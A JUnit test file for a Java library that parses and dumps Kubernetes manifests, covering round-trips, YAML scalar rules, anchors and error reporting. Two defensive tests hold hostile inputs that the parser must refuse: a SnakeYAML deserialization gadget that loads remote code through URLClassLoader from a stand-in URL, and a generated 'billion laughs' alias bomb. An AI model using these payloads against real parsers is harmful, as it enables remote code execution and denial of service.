package dev.kubesdk.manifests;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.google.gson.JsonObject;
import dev.kubesdk.api.model.V1ConfigMap;
import dev.kubesdk.api.model.V1CustomResourceDefinition;
import dev.kubesdk.api.model.V1Deployment;
import dev.kubesdk.api.model.V1Namespace;
import dev.kubesdk.api.model.V1ObjectMeta;
import dev.kubesdk.api.model.V1ServiceAccount;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class ManifestsTest {
  private final Manifests manifests = Manifests.standard();

  static Stream<Path> examples() throws IOException, URISyntaxException {
    Path dir = Path.of(ManifestsTest.class.getResource("/examples").toURI());
    try (Stream<Path> files = Files.list(dir)) {
      return files.sorted().toList().stream();
    }
  }

  @ParameterizedTest
  @MethodSource("examples")
  void everyExampleLoadsAndDumpsBackToTheSameTree(Path file) throws IOException {
    String text = Files.readString(file);
    List<JsonObject> original = manifests.parseTrees(text, file.toString());
    List<Object> loaded = manifests.load(file);

    assertThat(loaded).hasSameSizeAs(original).isNotEmpty();
    for (int i = 0; i < loaded.size(); i++) {
      // Through the typed model and back: nothing lost, nothing added.
      assertThat(manifests.toJson(loaded.get(i))).as(file + " object " + i).isEqualTo(original.get(i));
    }
    String dumped = manifests.dumpAll(loaded);
    assertThat(manifests.parseTrees(dumped, "dump of " + file)).isEqualTo(original);
    // And the dump of the dump is stable.
    assertThat(manifests.dumpAll(manifests.parse(dumped))).isEqualTo(dumped);
  }

  @Test
  void kindsWithAModelLoadTypedAndOthersGeneric() throws Exception {
    List<Object> objects = manifests.load(Path.of(getClass().getResource("/examples/crd.yaml").toURI()));

    assertThat(objects.get(0)).isInstanceOf(V1CustomResourceDefinition.class);
    assertThat(objects.get(1)).isInstanceOf(GenericObject.class);
    GenericObject cron = (GenericObject) objects.get(1);
    assertThat(cron.groupVersionKind()).isEqualTo(new GroupVersionKind("stable.example.com", "v1", "CronTab"));
    assertThat(cron.name()).contains("my-new-cron-object");
    assertThat(cron.namespace()).isEmpty();
  }

  @Test
  void listsAreExpandedAndEmptyDocumentsSkipped() throws Exception {
    List<Object> objects = manifests.load(Path.of(getClass().getResource("/examples/list.yaml").toURI()));

    assertThat(objects).hasSize(3);
    assertThat(objects.get(0)).isInstanceOf(V1Namespace.class);
    assertThat(((V1ServiceAccount) objects.get(1)).getMetadata().getNamespace()).isEqualTo("shop");
    V1ConfigMap fromTypedList = (V1ConfigMap) objects.get(2);
    assertThat(fromTypedList.getKind()).isEqualTo("ConfigMap");
    assertThat(fromTypedList.getData()).containsEntry("a", "1");
  }

  @Test
  void aDirectoryLoadsItsManifestFilesInNameOrder(@TempDir Path dir) throws IOException {
    Files.writeString(dir.resolve("b.yaml"), "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: b}\n");
    Files.writeString(dir.resolve("a.json"), "{\"apiVersion\": \"v1\", \"kind\": \"ConfigMap\", \"metadata\": {\"name\": \"a\"}}");
    Files.writeString(dir.resolve("notes.txt"), "not a manifest");
    Files.createDirectory(dir.resolve("nested.yaml"));

    List<Object> objects = manifests.load(dir);

    assertThat(objects).extracting(o -> ((V1ConfigMap) o).getMetadata().getName()).containsExactly("a", "b");
  }

  @Test
  void aStreamLoads() {
    List<Object> objects = manifests.load(new ByteArrayInputStream("apiVersion: v1\nkind: ConfigMap\n".getBytes(StandardCharsets.UTF_8)), "stdin");
    assertThat(objects).singleElement().isInstanceOf(V1ConfigMap.class);
  }

  @Test
  void typedObjectsDumpWithTheirKindEvenWhenUnset() {
    V1ConfigMap cm = new V1ConfigMap().metadata(new V1ObjectMeta().name("plain")).data(Map.of("k", "v"));

    String yaml = manifests.dump(cm);

    assertThat(yaml).isEqualTo("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: plain\ndata:\n  k: v\n");
    assertThat(manifests.parse(yaml)).singleElement().isEqualTo(cm.apiVersion("v1").kind("ConfigMap"));
    assertThat(manifests.dump(cm)).isEqualTo(yaml);
  }

  @Test
  void kubectlLayoutPutsListItemsAtTheirKeysIndentation() {
    Object deployment = manifests.parse("apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n      - name: a\n        args: [x, 'y']\n").get(0);

    assertThat(manifests.dump(deployment))
        .isEqualTo("apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n      - args:\n        - x\n        - \"y\"\n        name: a\n");
  }

  @ParameterizedTest
  @ValueSource(strings = {"yes", "no", "y", "N", "on", "Off", "true", "null", "~", "", " lead", "trail ", "1", "0x1F", "1_000", "1e3", ".5", "+1", "190:20:30", "2024-01-01",
      "a: b", "a #b", "#x", "-x", "- x", "[a]", "{a}", "*ref", "&anchor", "!tag", "|", ">", "'q'", "\"q\"", "%x", "@x", "`x", "=", "<<", "a\u0000b", "\u2028", "tab\tin", "é", "😀",
      "line1\nline2", "\nleading newline", " indented\nlines", "trailing\n\n\n", "cr\r\nlf", "a:", "ends with space \nnext"})
  void everyStringDumpsAndReadsBackAsItself(String value) {
    JsonObject object = new JsonObject();
    object.addProperty("apiVersion", "v1");
    object.addProperty("kind", "Thing");
    object.addProperty(value.isEmpty() ? "empty" : value, value);

    String yaml = manifests.dump(object);

    assertThat(manifests.parseTrees(yaml, "dump").get(0)).as(yaml).isEqualTo(object);
  }

  @Test
  void yaml11ScalarsResolveAsKubectlReadsThem() {
    JsonObject tree = manifests.parseTrees("apiVersion: v1\nkind: Thing\nflag: yes\nshort: y\ntext: 'yes'\noctal: 0755\nhex: 0x1F\nbig: 1_000\nfloat: 1.5\nnothing: ~\ndate: 2024-01-01\ny: key\n", "t").get(0);

    assertThat(tree.get("flag").getAsBoolean()).isTrue();
    assertThat(tree.get("short").getAsBoolean()).isTrue();
    assertThat(tree.get("text").getAsString()).isEqualTo("yes");
    assertThat(tree.get("octal").getAsInt()).isEqualTo(493);
    assertThat(tree.get("hex").getAsInt()).isEqualTo(31);
    assertThat(tree.get("big").getAsInt()).isEqualTo(1000);
    assertThat(tree.get("float").getAsDouble()).isEqualTo(1.5);
    assertThat(tree.get("nothing").isJsonNull()).isTrue();
    assertThat(tree.get("date").getAsString()).isEqualTo("2024-01-01");
    // kubectl reads a key y as "true", too.
    assertThat(tree.get("true").getAsString()).isEqualTo("key");
  }

  @Test
  void anchorsAliasesAndMergeKeysWork() {
    JsonObject tree = manifests.parseTrees("apiVersion: v1\nkind: Thing\nbase: &b {a: 1, b: 2}\nderived:\n  <<: *b\n  b: 3\ncopy: *b\n", "t").get(0);

    assertThat(tree.getAsJsonObject("derived").toString()).isEqualTo("{\"b\":3,\"a\":1}");
    assertThat(tree.getAsJsonObject("copy").toString()).isEqualTo("{\"a\":1,\"b\":2}");
  }

  @Test
  void aStreamWithAliasesStillLoadsTyped() {
    List<Object> objects = manifests.parse("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: b\n  labels: &l {app: x}\n  annotations: *l\n");

    assertThat(((V1ConfigMap) objects.get(1)).getMetadata().getAnnotations()).containsEntry("app", "x");
    // Anchors belong to their document: a later document cannot refer to them.
    assertThatThrownBy(() -> manifests.parse("apiVersion: v1\nkind: ConfigMap\ndata: &d {k: v}\n---\napiVersion: v1\nkind: ConfigMap\ndata: *d\n"))
        .isInstanceOf(ManifestException.class)
        .hasMessageContaining("document 2")
        .hasMessageContaining("alias *d");
  }

  @Test
  void badYamlNamesTheSourceDocumentAndLine() {
    String text = "apiVersion: v1\nkind: ConfigMap\n---\napiVersion: v1\nkind: ConfigMap\ndata:\n  a: [unclosed\n  b: c: d\n";

    assertThatThrownBy(() -> manifests.parse(text))
        .isInstanceOfSatisfying(ManifestException.class, e -> {
          assertThat(e.source()).isEqualTo("<string>");
          assertThat(e.document()).isEqualTo(2);
          assertThat(e.line()).isBetween(7, 9);
        })
        .hasMessageStartingWith("<string>: document 2 (line ");
  }

  @Test
  void aValueThatDoesNotFitTheModelNamesThePath() {
    String text = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: x\nspec:\n  replicas: many\n";

    assertThatThrownBy(() -> manifests.parse(text))
        .isInstanceOf(ManifestException.class)
        .hasMessageContaining("document 1 (line 1)")
        .hasMessageContaining("V1Deployment")
        .hasMessageContaining("replicas")
        .hasMessageNotContaining("many");
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
      "apiVersion: v1\nkind: ConfigMap\ndata: !!java.util.HashMap {}\n",
      "apiVersion: v1\nkind: ConfigMap\ndata:\n  a: !custom x\n"})
  void tagsThatWouldBuildObjectsAreRefused(String text) {
    assertThatThrownBy(() -> manifests.parse(text)).isInstanceOf(ManifestException.class).hasMessageContaining("tag");
  }

  @Test
  void aBillionLaughsIsRefused() {
    StringBuilder b = new StringBuilder("apiVersion: v1\nkind: ConfigMap\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    char prev = 'a';
    for (char c = 'b'; c <= 'j'; c++) {
      b.append(c).append(": &").append(c).append(" [");
      for (int i = 0; i < 9; i++) {
        b.append(i == 0 ? "" : ",").append('*').append(prev);
      }
      b.append("]\n");
      prev = c;
    }
    assertThatThrownBy(() -> manifests.parse(b.toString())).isInstanceOf(ManifestException.class).hasMessageContaining("aliases");
  }

  @Test
  void documentsWithoutKindOrNotMappingsAreRefused() {
    assertThatThrownBy(() -> manifests.parse("apiVersion: v1\nmetadata: {}\n")).isInstanceOf(ManifestException.class).hasMessageContaining("no kind");
    assertThatThrownBy(() -> manifests.parse("- a\n- b\n")).isInstanceOf(ManifestException.class).hasMessageContaining("not a list");
  }

  @Test
  void aMissingFileIsNamed() {
    assertThatThrownBy(() -> manifests.load(Path.of("/no/such/manifest.yaml")))
        .isInstanceOf(ManifestException.class)
        .hasMessage("/no/such/manifest.yaml: no such file or directory");
  }

  @Test
  void everyBuiltInKindResolvesToItsModel() {
    KindRegistry registry = KindRegistry.builtIn();
    assertThat(registry.kinds()).hasSizeGreaterThan(150);
    for (GroupVersionKind kind : registry.kinds()) {
      assertThat(registry.modelOf(kind)).as(kind.toString()).isPresent();
    }
    assertThat(registry.modelOf(new GroupVersionKind("apps", "v1", "Deployment"))).contains(V1Deployment.class);
    assertThat(registry.kindOf(V1Deployment.class)).contains(new GroupVersionKind("apps", "v1", "Deployment"));
  }

  @Test
  void customClassesCanBeRegistered() {
    KindRegistry registry = KindRegistry.builtIn().toBuilder().add(new GroupVersionKind("stable.example.com", "v1", "CronTab"), CronTab.class).build();

    Object loaded = Manifests.of(registry).parse("apiVersion: stable.example.com/v1\nkind: CronTab\nspec: {cronSpec: '* * * * *'}\n").get(0);

    assertThat(loaded).isInstanceOfSatisfying(CronTab.class, c -> assertThat(c.spec.cronSpec).isEqualTo("* * * * *"));
  }

  static final class CronTab {
    String apiVersion;
    String kind;
    Spec spec;

    static final class Spec {
      String cronSpec;
    }
  }
}
